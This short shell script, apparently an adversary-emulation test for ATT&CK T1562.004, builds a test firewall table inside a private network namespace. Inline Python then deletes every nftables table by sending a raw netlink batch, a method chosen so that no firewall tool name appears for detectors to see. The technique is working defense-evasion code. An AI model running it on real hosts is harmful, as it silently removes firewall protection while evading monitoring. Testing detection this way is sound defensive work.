#!/bin/sh
# T1562.004, firewall rules removed without iptables or nft: a python program speaks nftables'
# netlink protocol itself (an NFT_MSG_DELTABLE batch with no table named: every table goes),
# the way a custom implant or a libnftnl-linked tool would, so no firewall tool's name or
# arguments appear anywhere. Done in a private network namespace with a table made for it.
set -e
ns=scn-nf-$$
ip netns add "$ns"
trap 'ip netns del "$ns" 2>/dev/null || true' EXIT
ip netns exec "$ns" nft add table inet guard
ip netns exec "$ns" nft add chain inet guard input '{ type filter hook input priority 0; policy drop; }'
ip netns exec "$ns" /usr/bin/python3 - <<'PY'
import socket, struct
NETLINK_NETFILTER = 12
NLM_F_REQUEST, NLM_F_ACK = 1, 4
NFNL_MSG_BATCH_BEGIN, NFNL_MSG_BATCH_END, NFNL_SUBSYS_NFTABLES = 0x10, 0x11, 10
NFT_MSG_DELTABLE = 2
def msg(kind, flags, seq, res_id=0):
    body = struct.pack("!BBH", 0, 0, res_id)  # nfgenmsg: every family, version 0, res_id
    return struct.pack("=IHHII", 16 + len(body), kind, flags, seq, 0) + body
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_NETFILTER)
s.bind((0, 0))
s.sendto(msg(NFNL_MSG_BATCH_BEGIN, NLM_F_REQUEST, 1, NFNL_SUBSYS_NFTABLES)
         + msg((NFNL_SUBSYS_NFTABLES << 8) | NFT_MSG_DELTABLE, NLM_F_REQUEST | NLM_F_ACK, 2)
         + msg(NFNL_MSG_BATCH_END, NLM_F_REQUEST, 3, NFNL_SUBSYS_NFTABLES), (0, 0))
s.settimeout(1)
try:
    s.recv(4096)
except OSError:
    pass
PY
